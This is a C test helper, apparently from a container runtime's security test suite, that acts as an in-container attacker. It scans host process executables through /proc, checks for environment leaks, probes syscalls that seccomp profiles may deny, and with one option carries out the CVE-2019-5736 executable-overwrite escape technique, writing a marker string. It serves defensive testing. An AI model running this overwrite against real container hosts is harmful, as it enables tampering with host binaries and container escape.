/* probe.c -- the attacker's tool for tests/security, built static (the test
 * rootfs has no libc) by the session fixture in conftest.py:
 *
 *   probe hunt [-t MS] [-d] [-p] [-e MARKER] [-w MAJ:MIN:INO]
 *       Scan /proc/<pid>/exe of every visible process (for MS milliseconds,
 *       or once) and print each executable it can open:
 *         FOUND pid=P dev=MAJ:MIN ino=I exe=PATH
 *         DENIED pid=P errno=E          (once per pid)
 *         ENVLEAK pid=P                 (/proc/P/environ holds MARKER)
 *       -d drops every capability first (-p keeps CAP_SYS_PTRACE).
 *       -w: CVE-2019-5736 proper: keep an O_PATH fd of the executable with
 *       exactly that device and inode, and as soon as no process runs it any
 *       more, reopen it writable through /proc/self/fd/N and write over its
 *       first bytes.  Only the naive demonstrations pass -w, with a copy of
 *       the interpreter made in the test's own directory.
 *   probe openw PATH...
 *       open(2) each path O_WRONLY (no O_CREAT, no O_TRUNC), write nothing,
 *       close: "PATH ok" or "PATH errno=E".
 *   probe fds
 *       The open fds (without the one reading /proc/self/fd): "fd N -> TARGET".
 *   probe sys
 *       Try the syscalls a seccomp profile may deny, each in a child:
 *       "NAME ok" or "NAME errno=E".  Names ending in 32 use the i386 entry
 *       (int $0x80).
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static void drop_caps(int keep_ptrace)
{
    for (int cap = 0; cap < 64; cap++)
        if (!(keep_ptrace && cap == CAP_SYS_PTRACE))
            prctl(PR_CAPBSET_DROP, cap, 0, 0, 0);
    struct __user_cap_header_struct hdr = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2];
    memset(data, 0, sizeof data);
    if (keep_ptrace) {
        data[0].effective = data[0].permitted = 1U << CAP_SYS_PTRACE;
    }
    if (syscall(SYS_capset, &hdr, data) < 0) {
        perror("capset");
        exit(2);
    }
}

#define MAX_SEEN 256

static int environ_has(int pid, const char *marker)
{
    char path[64], buf[65536];
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0)
        return 0;
    size_t m = strlen(marker);
    for (ssize_t i = 0; i + (ssize_t)m <= n; i++)
        if (memcmp(buf + i, marker, m) == 0)
            return 1;
    return 0;
}

static int hunt(int argc, char **argv)
{
    long ms = 0;
    int drop = 0, keep_ptrace = 0, overwrite = 0;
    const char *marker = NULL;
    unsigned int wmaj = 0, wmin = 0;
    unsigned long long wino = 0;
    for (int i = 2; i < argc; i++) {
        if (!strcmp(argv[i], "-t") && i + 1 < argc)
            ms = atol(argv[++i]);
        else if (!strcmp(argv[i], "-d"))
            drop = 1;
        else if (!strcmp(argv[i], "-p"))
            keep_ptrace = 1;
        else if (!strcmp(argv[i], "-e") && i + 1 < argc)
            marker = argv[++i];
        else if (!strcmp(argv[i], "-w") && i + 1 < argc) {
            if (sscanf(argv[++i], "%u:%u:%llu", &wmaj, &wmin, &wino) != 3)
                return 2;
            overwrite = 1;
        } else {
            fprintf(stderr, "probe hunt: bad argument %s\n", argv[i]);
            return 2;
        }
    }
    if (drop)
        drop_caps(keep_ptrace);

    struct stat self;
    if (stat("/proc/self/exe", &self) < 0)
        memset(&self, 0, sizeof self);
    dev_t seen_dev[MAX_SEEN];
    ino_t seen_ino[MAX_SEEN];
    int n_seen = 0;
    int denied[MAX_SEEN], n_denied = 0;
    int leaked[MAX_SEEN], n_leaked = 0;
    int held = -1;
    long deadline = now_ms() + ms;
    pid_t me = getpid();
    do {
        DIR *d = opendir("/proc");
        if (!d)
            return 3;
        struct dirent *e;
        while ((e = readdir(d))) {
            if (!isdigit((unsigned char)e->d_name[0]))
                continue;
            int pid = atoi(e->d_name);
            if (pid == me)
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) {
                if (errno == EACCES || errno == EPERM) {
                    int k;
                    for (k = 0; k < n_denied && denied[k] != pid; k++)
                        ;
                    if (k == n_denied && n_denied < MAX_SEEN) {
                        denied[n_denied++] = pid;
                        printf("DENIED pid=%d errno=%d\n", pid, errno);
                    }
                }
                continue;
            }
            struct stat st;
            if (fstat(fd, &st) < 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino)) {
                close(fd);
                continue;
            }
            int k;
            for (k = 0; k < n_seen && !(seen_dev[k] == st.st_dev && seen_ino[k] == st.st_ino); k++)
                ;
            if (k == n_seen && n_seen < MAX_SEEN) {
                char exe[4096];
                ssize_t n = readlink(path, exe, sizeof exe - 1);
                exe[n < 0 ? 0 : n] = '\0';
                seen_dev[n_seen] = st.st_dev;
                seen_ino[n_seen++] = st.st_ino;
                printf("FOUND pid=%d dev=%u:%u ino=%llu exe=%s\n", pid, major(st.st_dev), minor(st.st_dev),
                       (unsigned long long)st.st_ino, exe);
            }
            if (overwrite && held < 0 && major(st.st_dev) == wmaj && minor(st.st_dev) == wmin &&
                (unsigned long long)st.st_ino == wino)
                held = fd;
            else
                close(fd);
            if (marker) {
                for (k = 0; k < n_leaked && leaked[k] != pid; k++)
                    ;
                if (k == n_leaked && n_leaked < MAX_SEEN && environ_has(pid, marker)) {
                    leaked[n_leaked++] = pid;
                    printf("ENVLEAK pid=%d\n", pid);
                }
            }
        }
        closedir(d);
        fflush(stdout);
        if (held >= 0) {
            /* ETXTBSY while any process still executes it. */
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", held);
            int w = open(p, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                static const char msg[] = "PWNED-BY-CONTAINER";
                if (pwrite(w, msg, sizeof msg - 1, 0) == (ssize_t)(sizeof msg - 1))
                    printf("OVERWROTE ino=%llu\n", wino);
                close(w);
                close(held);
                held = -2;
                break;
            }
        }
        if (ms > 0) {
            struct timespec ts = {0, 200 * 1000};
            nanosleep(&ts, NULL);
        }
    } while (now_ms() < deadline);
    if (held == -1 && overwrite)
        printf("NOTARGET\n");
    else if (held >= 0)
        printf("STILLBUSY\n");
    printf("DONE\n");
    return 0;
}

static int openw(int argc, char **argv)
{
    for (int i = 2; i < argc; i++) {
        int fd = open(argv[i], O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            close(fd);
            printf("%s ok\n", argv[i]);
        } else {
            printf("%s errno=%d\n", argv[i], errno);
        }
    }
    return 0;
}

static int fds(void)
{
    DIR *d = opendir("/proc/self/fd");
    if (!d)
        return 3;
    int mine = dirfd(d);
    struct dirent *e;
    while ((e = readdir(d))) {
        if (!isdigit((unsigned char)e->d_name[0]) || atoi(e->d_name) == mine)
            continue;
        char path[64], target[4096];
        snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
        ssize_t n = readlink(path, target, sizeof target - 1);
        target[n < 0 ? 0 : n] = '\0';
        printf("fd %s -> %s\n", e->d_name, target);
    }
    closedir(d);
    return 0;
}

/* ---- syscall probes, each in a child so that a success changes nothing here ---- */

static long sys32(long nr, long a, long b, long c, long d, long e)
{
    long r;
    __asm__ volatile("int $0x80"
                     : "=a"(r)
                     : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
                     : "memory");
    return r; /* -errno on failure */
}

/* i386 numbers */
#define NR32_KEYCTL 288
#define NR32_ADD_KEY 286
#define NR32_UNSHARE 310

static int p_keyctl(void)
{
    /* KEYCTL_JOIN_SESSION_KEYRING with no name: a new anonymous keyring for this child only */
    return syscall(SYS_keyctl, 1, 0) < 0 ? -errno : 0;
}

static int p_add_key(void)
{
    syscall(SYS_keyctl, 1, 0); /* our own session keyring first, where allowed */
    return syscall(SYS_add_key, "user", "pyoci-sec-probe", "x", 1, -3 /* session */) < 0 ? -errno : 0;
}

static int p_request_key(void)
{
    /* Reaching the kernel gives ENOKEY: that counts as allowed. */
    long r = syscall(SYS_request_key, "user", "pyoci-sec-no-such-key", NULL, 0);
    return r < 0 && errno != ENOKEY ? -errno : 0;
}

static int p_unshare_user(void)
{
    return syscall(SYS_unshare, CLONE_NEWUSER) < 0 ? -errno : 0;
}

static int p_clone_user(void)
{
    long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid < 0)
        return -errno;
    if (pid == 0)
        _exit(0);
    waitpid((pid_t)pid, NULL, 0);
    return 0;
}

static int p_personality(void)
{
    /* ADDR_NO_RANDOMIZE: turn off ASLR for what this process runs next */
    return syscall(SYS_personality, 0x0040000) < 0 ? -errno : 0;
}

static int p_userfaultfd(void)
{
    long fd = syscall(SYS_userfaultfd, O_CLOEXEC | 1 /* UFFD_USER_MODE_ONLY */);
    return fd < 0 ? -errno : 0;
}

static int p_io_uring(void)
{
    char params[120];
    memset(params, 0, sizeof params);
    long fd = syscall(SYS_io_uring_setup, 1, params);
    return fd < 0 ? -errno : 0;
}

static int p_keyctl32(void)
{
    long r = sys32(NR32_KEYCTL, 1, 0, 0, 0, 0);
    return r < 0 ? (int)r : 0;
}

static int p_add_key32(void)
{
    sys32(NR32_KEYCTL, 1, 0, 0, 0, 0);
    long r = sys32(NR32_ADD_KEY, (long)(unsigned)(unsigned long)"user", (long)(unsigned)(unsigned long)"p32",
                   (long)(unsigned)(unsigned long)"x", 1, -3);
    return r < 0 ? (int)r : 0;
}

static int p_unshare32(void)
{
    long r = sys32(NR32_UNSHARE, CLONE_NEWUSER, 0, 0, 0, 0);
    return r < 0 ? (int)r : 0;
}

struct probe {
    const char *name;
    int (*fn)(void);
};

static const struct probe probes[] = {
    {"keyctl", p_keyctl},         {"add_key", p_add_key},       {"request_key", p_request_key},
    {"unshare_user", p_unshare_user}, {"clone_user", p_clone_user}, {"personality", p_personality},
    {"userfaultfd", p_userfaultfd}, {"io_uring_setup", p_io_uring}, {"keyctl32", p_keyctl32},
    {"add_key32", p_add_key32},   {"unshare_user32", p_unshare32},
};

static int sys_probes(void)
{
    for (size_t i = 0; i < sizeof probes / sizeof probes[0]; i++) {
        int pipefd[2];
        if (pipe(pipefd) < 0)
            return 3;
        pid_t pid = fork();
        if (pid == 0) {
            close(pipefd[0]);
            int r = probes[i].fn();
            if (write(pipefd[1], &r, sizeof r) != sizeof r)
                _exit(1);
            _exit(0);
        }
        close(pipefd[1]);
        int r = 0, status = 0;
        ssize_t n = read(pipefd[0], &r, sizeof r);
        close(pipefd[0]);
        waitpid(pid, &status, 0);
        if (n != sizeof r)
            printf("%s killed=%d\n", probes[i].name, WIFSIGNALED(status) ? WTERMSIG(status) : -1);
        else if (r == 0)
            printf("%s ok\n", probes[i].name);
        else
            printf("%s errno=%d\n", probes[i].name, -r);
        fflush(stdout);
    }
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 2 && !strcmp(argv[1], "hunt"))
        return hunt(argc, argv);
    if (argc >= 2 && !strcmp(argv[1], "openw"))
        return openw(argc, argv);
    if (argc >= 2 && !strcmp(argv[1], "fds"))
        return fds();
    if (argc >= 2 && !strcmp(argv[1], "sys"))
        return sys_probes();
    fprintf(stderr, "usage: probe hunt|openw|fds|sys ...\n");
    return 2;
}
